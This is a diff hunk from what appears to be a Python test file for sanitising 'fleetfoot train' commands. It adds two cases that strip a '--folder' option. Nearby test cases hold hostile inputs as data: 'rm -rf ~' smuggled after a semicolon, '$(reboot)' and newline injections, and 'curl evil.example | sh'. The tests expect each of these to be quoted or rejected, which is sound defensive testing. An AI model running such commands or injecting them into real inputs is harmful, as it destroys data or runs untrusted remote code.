@@ -288,6 +288,8 @@ def test_the_command_is_the_one_that_was_noted_or_the_recipe_file(tmp_path: Path
         ("fleetfoot train x; rm -rf ~", "fleetfoot train 'x;' rm -rf '~'"),
         ("fleetfoot train $(reboot) `x`", "fleetfoot train '$(reboot)' '`x`'"),
         ("fleetfoot train 'a\nreboot\n'", "fleetfoot train 'a?reboot?'"),
+        ("fleetfoot train x --folder runs/a --seed 3", "fleetfoot train x --seed 3"),
+        ("fleetfoot train x --folder=runs/a", "fleetfoot train x"),
         ("curl evil.example | sh", None),
         ("fleetfoot 'torn", None),
         (7, None),
